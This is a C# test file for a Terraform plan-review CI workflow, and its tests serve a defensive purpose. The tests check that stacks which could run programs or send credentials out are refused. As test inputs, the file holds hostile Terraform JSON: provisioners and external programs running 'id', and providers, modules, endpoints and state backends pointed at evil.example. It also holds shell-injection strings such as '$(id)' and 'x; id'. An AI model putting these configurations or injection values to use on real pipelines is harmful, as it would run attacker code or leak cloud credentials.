using System.Text.Json.Nodes;
using MlInferenceCdktf.App.Tests.Running;
using MlInferenceCdktf.TestSupport;

namespace MlInferenceCdktf.App.Tests.Review;

/// <summary>Each step of the ready workflows, run with the real bash.</summary>
public sealed class PlanReviewWorkflowTests
{
    private const string Marker = "<!-- mlinf-review:chat-prod:0123456789ab -->";

    private static readonly Workflow s_review = new("plan-review.yml");
    private static readonly Workflow s_apply = new("apply-reviewed-plan.yml");

    public static TheoryData<string> Snapshots => [.. Directory.EnumerateFiles(Path.Combine(Built.RepositoryRoot, "main.tf.json.snapshots"), "*.tf.json").Select(static file => Path.GetFileName(file)).Order(StringComparer.Ordinal)];

    public static TheoryData<string, string> Dangerous => new()
    {
        { "external data", """{ "data": { "external": { "x": { "program": ["id"] } } } }""" },
        { "another provider's resource", """{ "resource": { "null_resource": { "x": {} } } }""" },
        { "a provisioner", """{ "resource": { "google_compute_address": { "x": { "provisioner": [{ "local-exec": { "command": "id" } }] } } } }""" },
        { "another provider", """{ "provider": { "evil": [{}] } }""" },
        { "a provider of that name from elsewhere", """{ "terraform": { "required_providers": { "google": { "source": "evil.example/x/google" } } } }""" },
        { "credentials sent elsewhere", """{ "provider": { "google": [{ "compute_custom_endpoint": "https://evil.example/" }] } }""" },
        { "a state kept elsewhere", """{ "terraform": { "backend": { "http": { "address": "https://evil.example/" } } } }""" },
        { "a module", """{ "module": { "x": { "source": "git::ssh://evil.example/x" } } }""" },
        { "no JSON", "{" },
    };

    [Fact]
    public void The_stack_is_synthesized_by_the_app()
    {
        using var workspace = new Workspace();
        var script = s_review.Script("Synthesize");
        Assert.StartsWith("dotnet run --project src/MlInferenceCdktf.App ", script, StringComparison.Ordinal);
        workspace.Output([.. script.Split(" -- ")[1].Trim().Split(' ')]);
        Assert.NotEmpty(workspace.Read(Running.Workspace.Terraform));
    }

    [Theory]
    [InlineData("{}\n", 0)]
    [InlineData("{ }\n", 1)]
    public void A_snapshot_that_differs_fails_and_says_how_to_accept_it(string made, int exitCode)
    {
        using var run = new WorkflowRun();
        run.File("snapshots/chat-prod.tf.json", "{}\n").File("cdktf.out/stacks/chat-prod/cdk.tf.json", made);
        var result = run.Run(s_review.Script("Compare with the accepted snapshot"));
        Assert.Equal(exitCode, result.ExitCode);
        Assert.Equal(exitCode == 1, result.Output.Contains("cp 'cdktf.out/stacks/chat-prod/cdk.tf.json' 'snapshots/chat-prod.tf.json'", StringComparison.Ordinal));
    }

    [ToolTheory("git")]
    [InlineData(Stacks.Network, Stacks.NetworkReplaced, "BLOCKED")]
    [InlineData(Stacks.Network, Stacks.Network, "NO FINDINGS (no change)")]
    [InlineData(null, Stacks.Network, null)]
    public void A_change_is_told_what_it_would_replace_without_credentials(string? accepted, string made, string? verdict)
    {
        using var run = new WorkflowRun();
        run.File("snapshots/README.md", "").File("cdktf.out/stacks/chat-prod/cdk.tf.json", made);
        if (accepted is not null)
        {
            run.File("snapshots/chat-prod.tf.json", accepted);
        }

        run.Succeed(GitHistory.Commit("snapshots")).Succeed(GitHistory.Commit("snapshots")).Succeed(s_review.Script("Say what it would replace"));
        Assert.Equal(verdict is not null, run.Made("summary").Contains($"### Upgrade: {verdict}", StringComparison.Ordinal));
    }

    [ToolTheory("jq"), MemberData(nameof(Snapshots))]
    public void What_the_library_makes_may_be_planned(string snapshot)
    {
        using var run = new WorkflowRun();
        run.File("stack/cdk.tf.json", File.ReadAllText(Path.Combine(Built.RepositoryRoot, "main.tf.json.snapshots", snapshot)))
            .File("stack/override.tf", "data \"external\" \"x\" {}").File("stack/modules/x.tf", "")
            .Succeed(s_review.Script("Refuse a stack that runs programs"));
        Assert.Equal(["stack/cdk.tf.json"], FileTree.Of(run.Folder).Keys);
    }

    [ToolTheory("jq"), MemberData(nameof(Dangerous))]
    public void What_could_run_a_program_beside_credentials_is_refused(string what, string stack)
    {
        using var run = new WorkflowRun();
        var result = run.File("stack/cdk.tf.json", stack).Run(s_review.Script("Refuse a stack that runs programs"));
        Assert.True(result.ExitCode == 1, $"{what} must be refused");
        Assert.Contains("::error::", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void The_log_shows_nothing_of_the_plan()
    {
        using var run = new WorkflowRun();
        var result = run.File("stack/cdk.tf.json", "{}").Answer("plan", Plans.Blocked).Run(s_review.Script("Plan"));
        Assert.Equal((0, ""), (result.ExitCode, result.Output));
        Assert.Equal(Plans.Blocked, run.Read("plan.json"));
        Assert.Contains("plan -input=false", run.Calls, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("blocked", "BLOCKED", 2)]
    [InlineData("empty", "NO FINDINGS", 0)]
    [InlineData("incomplete", "INCOMPLETE", 3)]
    public void A_review_leaves_comment_artifact_outputs_and_summary(string plan, string verdict, int code)
    {
        using var run = Reviewed(plan switch { "blocked" => Plans.Blocked, "empty" => Plans.Empty, _ => Plans.Incomplete });
        run.Succeed(s_review.Script("Review"));
        Assert.StartsWith($"verdict={verdict}\n", run.Made("outputs"), StringComparison.Ordinal);
        Assert.EndsWith($"code={code}\n", run.Made("outputs"), StringComparison.Ordinal);
        Assert.Equal(run.Read("review/full.md"), run.Made("summary"));
        Assert.StartsWith("<!-- mlinf-review:chat-prod:", run.Read("review/comment.md"), StringComparison.Ordinal);
        Assert.Equal(verdict, JsonNode.Parse(run.Read("review/review.json"))!["verdict"]!.GetValue<string>());
        Assert.NotNull(JsonNode.Parse(run.Read("review/review.sarif")));
    }

    [Fact]
    public void Suppressions_of_the_base_branch_count()
    {
        using var run = Reviewed(Plans.Blocked);
        run.File("review-suppressions.yaml", $"suppressions:\n- {{rule: T01, address: '*', reason: agreed, expires: 9999-12-31}}\n").Succeed(s_review.Script("Review"));
        Assert.EndsWith("code=0\n", run.Made("outputs"), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("not a plan", "")]
    [InlineData(null, "suppressions: 1\n")]
    public void Without_a_review_the_step_fails(string? plan, string suppressions)
    {
        using var run = Reviewed(plan ?? Plans.Blocked);
        Assert.Equal(1, run.File("review-suppressions.yaml", suppressions).Run(s_review.Script("Review")).ExitCode);
        Assert.Empty(run.Made("outputs"));
    }

    [Theory]
    [InlineData("0", 0)]
    [InlineData("1", 1)]
    [InlineData("2", 1)]
    [InlineData("3", 1)]
    [InlineData("", 1)]
    public void Only_a_plan_that_was_judged_and_is_not_blocked_passes(string code, int exitCode)
    {
        using var run = new WorkflowRun();
        Assert.Equal(exitCode, run.With("CODE", code).Run(s_review.Script("Judge")).ExitCode);
    }

    [Fact]
    public void Exactly_the_plan_that_was_reviewed_is_applied()
    {
        using var run = Kept(out var digest);
        run.With("COMMIT", new string('a', 40)).With("PLAN", digest).Succeed("rm -r stack plan.tar").Succeed(s_apply.Script("Get the plan"));
        Assert.Equal("binary\n", run.Read("stack/plan.out"));
        run.Succeed(s_apply.Script("Apply"));
        Assert.EndsWith("terraform -chdir=stack init -input=false -no-color -lockfile=readonly\nterraform -chdir=stack apply -input=false -no-color plan.out\n", run.Calls, StringComparison.Ordinal);
    }

    [Fact]
    public void A_plan_that_was_exchanged_is_refused()
    {
        using var run = Kept(out var digest);
        run.With("COMMIT", new string('a', 40)).With("PLAN", digest).Succeed($"rm -r stack plan.tar; echo other >> \"$PROGRAMS/bucket/plans/acme/chat/$COMMIT/$PLAN.tar\"");
        Assert.NotEqual(0, run.Run(s_apply.Script("Get the plan")).ExitCode);
        Assert.False(Directory.Exists(Path.Combine(run.Folder, "stack")), "nothing of it may be unpacked");
    }

    [Theory]
    [InlineData("../../other", "")]
    [InlineData("main", "0")]
    [InlineData("$(id)", "x; id")]
    public void What_is_no_commit_or_digest_is_refused(string commit, string plan)
    {
        using var run = new WorkflowRun();
        Assert.Equal(1, run.With("COMMIT", commit).With("PLAN", plan).Run(s_apply.Script("Get the plan")).ExitCode);
        Assert.Empty(run.Calls);
    }

    [ToolTheory("jq")]
    [InlineData("[]", "--method POST repos/acme/chat/issues/7/comments ")]
    [InlineData($$"""[{ "id": 11, "user": { "login": "mallory" }, "body": "{{Marker}}" }]""", "--method POST repos/acme/chat/issues/7/comments ")]
    [InlineData("""[{ "id": 12, "user": { "login": "github-actions[bot]" }, "body": "<!-- mlinf-review:chat-test:0123456789ab -->" }]""", "--method POST repos/acme/chat/issues/7/comments ")]
    [InlineData("""[{ "id": 13, "user": { "login": "github-actions[bot]" }, "body": "<!-- mlinf-review:chat-prod:ffffffffffff -->\nold" }]""", "--method PATCH repos/acme/chat/issues/comments/13 ")]
    [InlineData($$"""[{ "id": 14, "user": { "login": "github-actions[bot]" }, "body": "{{Marker}}" }, { "id": 15, "user": { "login": "github-actions[bot]" }, "body": "{{Marker}}" }]""", "--method PATCH repos/acme/chat/issues/comments/14 ")]
    public void The_bots_own_comment_is_updated_and_no_other(string comments, string call)
    {
        using var run = new WorkflowRun();
        var text = $"{Marker}\n$(id) `id` \"quoted\" \\ ${{{{ secrets }}}}\n";
        run.Answer("comments", comments).File("review/comment.md", text).Succeed(s_review.Script("Comment"));
        Assert.Contains(call, run.Calls, StringComparison.Ordinal);
        Assert.Equal(text, JsonNode.Parse(run.Made("posted"))!["body"]!.GetValue<string>());
    }

    [Theory]
    [InlineData("")]
    [InlineData("hello\n")]
    [InlineData("<!-- mlinf-review:x\"y:0123456789ab -->\n")]
    [InlineData("<!-- mlinf-review:chat-prod:0123456789ab --> more\n")]
    public void What_is_no_review_is_not_posted(string text)
    {
        using var run = new WorkflowRun();
        Assert.NotEqual(0, run.File("review/comment.md", text).Run(s_review.Script("Comment")).ExitCode);
        Assert.Empty(run.Calls);
    }

    private static WorkflowRun Reviewed(string plan) => new WorkflowRun().File("plan.json", plan).File("stack/cdk.tf.json", "{}").File("stack/inference-manifest.json", """{ "schemaVersion": 1, "project": "p", "stack": "chat-prod", "services": {} }""");

    private static WorkflowRun Kept(out string digest)
    {
        var run = new WorkflowRun();
        run.File("stack/cdk.tf.json", "{}").Answer("plan", Plans.Blocked).File("review/comment.md", $"{Marker}\ntext\n")
            .Succeed(s_review.Script("Plan")).Succeed(s_review.Script("Keep the reviewed plan"));
        var comment = run.Read("review/comment.md");
        Assert.Contains($"commit `{new string('a', 40)}`", comment, StringComparison.Ordinal);
        digest = comment.Split("plan `")[1].Split('`')[0];
        return run;
    }
}
